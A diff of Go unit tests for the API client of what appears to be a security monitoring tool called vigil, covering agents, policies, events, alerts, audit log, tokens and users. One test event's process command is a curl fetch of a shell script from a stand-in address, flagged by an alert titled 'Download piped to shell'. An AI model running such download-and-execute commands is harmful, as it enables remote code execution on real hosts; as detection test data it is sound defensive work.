@@ -3,11 +3,13 @@ package apiclient_test
 import (
 	"context"
 	"encoding/json"
+	"errors"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/nats-io/nats.go"
 
 	"github.com/vigilsec/vigil/internal/apiclient"
 	"github.com/vigilsec/vigil/internal/apiclient/apiclienttest"
@@ -16,29 +18,55 @@ import (
 	"github.com/vigilsec/vigil/internal/store"
 )
 
-var t0 = time.Date(2025, 3, 4, 10, 0, 0, 0, time.UTC)
+var t0 = apiclienttest.Now
 
-// seeded returns a client with admin rights on a center holding two agents.
-func seeded(t *testing.T) (*apiclient.Client, *apiclienttest.Center) {
+// seeded returns a client with admin rights on a center holding two
+// agents: a1 online and answering commands, a2 lost.
+func seeded(t *testing.T) (*apiclient.Client, *apiclienttest.Env) {
+	c, env, _ := seededWithConn(t)
+	return c, env
+}
+
+// seededWithConn is seeded that also returns a1's bus connection.
+func seededWithConn(t *testing.T) (*apiclient.Client, *apiclienttest.Env, *nats.Conn) {
 	t.Helper()
-	center := apiclienttest.New(func() time.Time { return t0 })
-	center.AddBearer("admin", "admin", store.RoleAdmin)
-	center.AddAgent(store.Agent{ID: "a1", Hostname: "web-1", Status: store.StatusOnline, Labels: map[string]string{"env": "prod"},
-		LastState: []byte(`{"spool_dropped_total":0}`)})
-	center.AddAgent(store.Agent{ID: "a2", Hostname: "db-1", Status: store.StatusLost, Labels: map[string]string{"env": "prod", "role": "db"}})
-	c, _ := newTLS(t, center, "admin")
-	return c, center
+	env := apiclienttest.Start(t)
+	ctx := context.Background()
+	for _, a := range []store.Agent{
+		{ID: "a1", Hostname: "web-1", Status: store.StatusOnline, Labels: map[string]string{"env": "prod"},
+			LastState: []byte(`{"spool_dropped_total":0}`), EnrolledAt: t0.Add(-time.Hour), UserKey: apiclienttest.UserKey("a1")},
+		{ID: "a2", Hostname: "db-1", Status: store.StatusLost, Labels: map[string]string{"env": "prod", "role": "db"},
+			EnrolledAt: t0.Add(-time.Hour), UserKey: apiclienttest.UserKey("a2")},
+	} {
+		if err := env.Store.Agents().Create(ctx, a); err != nil {
+			t.Fatal(err)
+		}
+	}
+	nc := env.ConnectAgent("a1", apiclienttest.Echo("a1"))
+	return client(t, env, env.AdminToken), env, nc
+}
+
+// waitFor polls cond until it holds; the deadline only bounds a hang.
+func waitFor(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for !cond() {
+		if time.Now().After(deadline) {
+			t.Fatalf("gave up waiting for %s", what)
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
 }
 
 func TestAgentRoutes(t *testing.T) {
-	c, center := seeded(t)
+	c, env, a1 := seededWithConn(t)
 	ctx := context.Background()
 
 	page, err := c.Agents(ctx, store.AgentFilter{Status: store.StatusLost, Labels: map[string]string{"role": "db", "env": "prod"}, Q: "db"})
 	if err != nil || len(page.Items) != 1 || page.Items[0].ID != "a2" {
 		t.Fatalf("Agents = %+v, %v", page, err)
 	}
-	reqs := center.Requests()
+	reqs := env.Requests()
 	if want := "GET /api/v1/agents?label=env%3Dprod&label=role%3Ddb&q=db&status=lost"; reqs[len(reqs)-1] != want {
 		t.Errorf("request %q, want %q", reqs[len(reqs)-1], want)
 	}
@@ -51,37 +79,57 @@ func TestAgentRoutes(t *testing.T) {
 	if err != nil || !cmp.Equal(a.Labels, map[string]string{"env": "test"}) {
 		t.Fatalf("SetAgentLabels = %+v, %v", a, err)
 	}
-	center.AddHistory(store.StatusChange{AgentID: "a1", At: t0, From: store.StatusLost, To: store.StatusOnline, Reason: "connected"})
+	for _, to := range []store.AgentStatus{store.StatusLost, store.StatusOnline} {
+		if _, err := env.Store.Agents().SetStatus(ctx, "a1", to, "went "+string(to), t0); err != nil {
+			t.Fatal(err)
+		}
+	}
 	hist, err := c.AgentHistory(ctx, "a1", store.Page{Limit: 5})
-	if err != nil || len(hist.Items) != 1 || hist.Items[0].Reason != "connected" {
+	if err != nil || len(hist.Items) != 2 || hist.Items[0].Reason != "went online" {
 		t.Fatalf("AgentHistory = %+v, %v", hist, err)
 	}
 
-	center.AddPolicy(store.AgentPolicy{Name: "test", Selector: map[string]string{"env": "test"}, Revision: 3,
-		Spec: json.RawMessage(`{"heartbeatIntervalSeconds":"5","spoolMaxMb":"512"}`)})
+	test := store.AgentPolicy{Name: "test", Selector: map[string]string{"env": "test"},
+		Spec: json.RawMessage(`{"heartbeatIntervalSeconds":"5","spoolMaxMb":"512"}`), UpdatedAt: t0}
+	for range 2 {
+		if _, err := env.Store.AgentPolicies().Put(ctx, test); err != nil {
+			t.Fatal(err)
+		}
+	}
 	pol, err := c.EffectivePolicy(ctx, "a1")
-	if err != nil || pol.GetName() != "test" || pol.GetRevision() != 3 || pol.GetHeartbeatIntervalSeconds() != 5 || pol.GetSpoolMaxMb() != 512 {
+	// The revision carries the stored one in its upper 32 bits.
+	if err != nil || pol.GetName() != "test" || pol.GetRevision()>>32 != 2 || pol.GetHeartbeatIntervalSeconds() != 5 || pol.GetSpoolMaxMb() != 512 {
 		t.Fatalf("EffectivePolicy = %v, %v", pol, err)
 	}
 
 	resp, err := c.Exec(ctx, command.Request{Name: command.Ping, Selector: map[string]string{"env": "prod"}, Timeout: 3 * time.Second})
-	if err != nil || resp.Command != "ping" || len(resp.Results) != 1 || resp.Results[0].AgentID != "a2" || resp.Results[0].OK {
+	if err != nil || resp.Command != "ping" || len(resp.Results) != 1 || resp.Results[0].AgentID != "a2" ||
+		resp.Results[0].OK || resp.Results[0].Error != "agent offline" {
 		t.Fatalf("Exec = %+v, %v", resp, err)
 	}
 	resp, err = c.Exec(ctx, command.Request{Name: command.Status, AgentIDs: []string{"a1"}})
-	if err != nil || !resp.Results[0].OK || !strings.Contains(string(resp.Results[0].Output), "web-1") {
+	if err != nil || len(resp.Results) != 1 || !resp.Results[0].OK ||
+		string(resp.Results[0].Output) != `{"command":"status","issued_by":"token:admin"}` {
 		t.Fatalf("Exec = %+v, %v", resp, err)
 	}
 
 	if err := c.DeleteAgent(ctx, "a2"); err != nil {
 		t.Fatal(err)
 	}
-	if _, ok := center.Agent("a2"); ok {
-		t.Error("a2 still stored after DeleteAgent")
+	if _, err := env.Store.Agents().Get(ctx, "a2"); !errors.Is(err, store.ErrNotFound) {
+		t.Errorf("a2 still stored after DeleteAgent: %v", err)
+	}
+	if !env.Bus.Server.Revoked(apiclienttest.UserKey("a2")) {
+		t.Error("credentials of a2 not revoked")
 	}
 	if _, err := c.Agent(ctx, "a2"); !apiclient.IsStatus(err, 404) {
 		t.Errorf("Agent(a2) after delete: %v", err)
 	}
+	// A connected agent is cut off the bus when it is deleted.
+	if err := c.DeleteAgent(ctx, "a1"); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "a1 disconnected", func() bool { return !a1.IsConnected() })
 }
 
 func TestPolicyRoutes(t *testing.T) {
@@ -103,6 +151,17 @@ func TestPolicyRoutes(t *testing.T) {
 	if err != nil || len(list.Items) != 1 {
 		t.Fatalf("AgentPolicies = %+v, %v", list, err)
 	}
+	for _, name := range []string{"base", "web"} {
+		if _, err := c.PutAgentPolicy(ctx, store.AgentPolicy{Name: name, Spec: json.RawMessage(`{}`)}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	names, err := apiclient.Collect(apiclient.All(ctx, func(ctx context.Context, cursor string) (apiclient.Page[store.AgentPolicy], error) {
+		return c.AgentPolicies(ctx, store.Page{Limit: 1, Cursor: cursor})
+	}), 0)
+	if err != nil || len(names) != 3 || names[0].Name != "base" || names[1].Name != "prod" || names[2].Name != "web" {
+		t.Fatalf("AgentPolicies page by page = %+v, %v", names, err)
+	}
 	if err := c.DeleteAgentPolicy(ctx, "prod"); err != nil {
 		t.Fatal(err)
 	}
@@ -112,54 +171,67 @@ func TestPolicyRoutes(t *testing.T) {
 }
 
 func TestEventAndAlertRoutes(t *testing.T) {
-	c, center := seeded(t)
+	c, env := seeded(t)
 	ctx := context.Background()
 	e1 := event.New("e1", t0.Add(time.Second), "process", "start")
 	e1.Set(event.FieldAgentID, "a1")
 	e1.Set(event.FieldProcessCmd, "curl http://203.0.113.9/x.sh")
-	e1.Set("process.pid", 9007199254740993) // above 2^53: must survive
+	e1.Set("process.pid", 4242)
 	e2 := event.New("e2", t0.Add(2*time.Second), "network", "connect")
 	e2.Set(event.FieldAgentID, "a2")
-	center.AddEvents(e1, e2)
+	if _, err := env.Store.Events().Insert(ctx, []event.Event{e1, e2}); err != nil {
+		t.Fatal(err)
+	}
 
 	page, err := c.Events(ctx, store.EventFilter{Since: t0, Q: "CURL", Ascending: true})
 	if err != nil || len(page.Items) != 1 || page.Items[0].ID() != "e1" || page.NextCursor == "" {
 		t.Fatalf("Events = %+v, %v", page, err)
 	}
-	if pid := page.Items[0].String("process.pid"); pid != "9007199254740993" {
+	if pid := page.Items[0].String("process.pid"); pid != "4242" {
 		t.Errorf("process.pid = %q", pid)
 	}
 	next, err := c.Events(ctx, store.EventFilter{Since: t0, Q: "CURL", Ascending: true, Page: store.Page{Cursor: page.NextCursor}})
 	if err != nil || len(next.Items) != 0 {
 		t.Fatalf("page after the newest = %+v, %v", next, err)
 	}
-	reqs := center.Requests()
+	reqs := env.Requests()
 	if want := "GET /api/v1/events?order=asc&q=CURL&since=2025-03-04T10%3A00%3A00Z"; reqs[len(reqs)-2] != want {
 		t.Errorf("request %q, want %q", reqs[len(reqs)-2], want)
 	}
 
-	center.AddAlert(store.Alert{ID: "al1", AgentID: "a1", RuleID: "r1", Title: "Download piped to shell", Severity: store.SeverityHigh, State: store.AlertNew})
+	if _, _, err := env.Store.Alerts().Raise(ctx, store.Alert{ID: "al1", AgentID: "a1", RuleID: "r1",
+		Title: "Download piped to shell", Severity: store.SeverityHigh, CreatedAt: t0}); err != nil {
+		t.Fatal(err)
+	}
 	alerts, err := c.Alerts(ctx, store.AlertFilter{Severity: store.SeverityHigh, AgentID: "a1", RuleID: "r1", State: store.AlertNew})
 	if err != nil || len(alerts.Items) != 1 {
 		t.Fatalf("Alerts = %+v, %v", alerts, err)
 	}
 	al, err := c.SetAlertState(ctx, "al1", store.AlertAcknowledged, "looking")
-	if err != nil || al.State != store.AlertAcknowledged || len(al.Comments) != 1 || al.Comments[0].Text != "looking" {
+	if err != nil || al.State != store.AlertAcknowledged || len(al.Comments) != 1 || al.Comments[0].Text != "looking" ||
+		al.Comments[0].Author != "token:admin" || !al.Comments[0].At.Equal(t0) {
 		t.Fatalf("SetAlertState = %+v, %v", al, err)
 	}
 	if al, err = c.Alert(ctx, "al1"); err != nil || al.State != store.AlertAcknowledged {
 		t.Fatalf("Alert = %+v, %v", al, err)
 	}
 
-	center.AddAudit(store.AuditEntry{At: t0, Actor: "alice", Action: "agent.delete", Result: "ok"})
+	if _, err := env.Store.Audit().Append(ctx, store.AuditEntry{At: t0.Add(-time.Minute), Actor: "alice", Action: "agent.delete", Result: "ok"}); err != nil {
+		t.Fatal(err)
+	}
 	audit, err := c.Audit(ctx, store.AuditFilter{Action: "agent.", Since: t0.Add(-time.Hour)})
 	if err != nil || len(audit.Items) != 1 || audit.Items[0].Actor != "alice" {
 		t.Fatalf("Audit = %+v, %v", audit, err)
 	}
+	// The state change above is in the audit log too.
+	audit, err = c.Audit(ctx, store.AuditFilter{Action: "alert.state"})
+	if err != nil || len(audit.Items) != 1 || audit.Items[0].Actor != "token:admin" || audit.Items[0].Target != "al1" {
+		t.Fatalf("Audit of alert.state = %+v, %v", audit, err)
+	}
 }
 
 func TestTokenAndUserRoutes(t *testing.T) {
-	c, center := seeded(t)
+	c, env := seeded(t)
 	ctx := context.Background()
 	jt, err := c.CreateJoinToken(ctx, apiclient.JoinTokenRequest{TTL: 2 * time.Hour, Labels: map[string]string{"site": "sh"}, UsageLimit: 5, Description: "lab"})
 	if err != nil || !strings.HasPrefix(jt.Token, "vgl1.") || !jt.ExpiresAt.Equal(t0.Add(2*time.Hour)) || jt.UsageLimit != 5 {
@@ -182,7 +254,7 @@ func TestTokenAndUserRoutes(t *testing.T) {
 		t.Fatalf("Me with the new token = %+v, %v", me, err)
 	}
 	ats, err := c.APITokens(ctx, store.Page{})
-	if err != nil || len(ats.Items) != 1 {
+	if err != nil || len(ats.Items) != 3 || ats.Items[0].ID != at.ID { // the newest, then the Env's own
 		t.Fatalf("APITokens = %+v, %v", ats, err)
 	}
 	if err := c.DeleteAPIToken(ctx, at.ID); err != nil {
@@ -212,7 +284,7 @@ func TestTokenAndUserRoutes(t *testing.T) {
 	}
 	role, disabled, pw := store.RoleResponder, true, "another secret"
 	u, err = c.UpdateUser(ctx, u.ID, apiclient.UserUpdate{Role: &role, Disabled: &disabled, Password: &pw})
-	if err != nil || u.Role != role || !u.Disabled || center.Password(u.ID) != pw {
+	if err != nil || u.Role != role || !u.Disabled || !env.PasswordIs(u.ID, pw) {
 		t.Fatalf("UpdateUser = %+v, %v", u, err)
 	}
 	if got, err := c.User(ctx, u.ID); err != nil || got.Role != role {
@@ -228,12 +300,14 @@ func TestTokenAndUserRoutes(t *testing.T) {
 }
 
 func TestHealthz(t *testing.T) {
-	c, center := seeded(t)
+	c, env := seeded(t)
 	ctx := context.Background()
 	if err := c.WithToken("").Healthz(ctx); err != nil {
 		t.Fatal(err)
 	}
-	center.SetUnhealthy("store does not answer")
+	if err := env.Store.Close(); err != nil {
+		t.Fatal(err)
+	}
 	err := c.Healthz(ctx)
 	if !apiclient.IsStatus(err, 503) || err.Error() != "store does not answer (503 unavailable)" {
 		t.Errorf("unhealthy: %v", err)
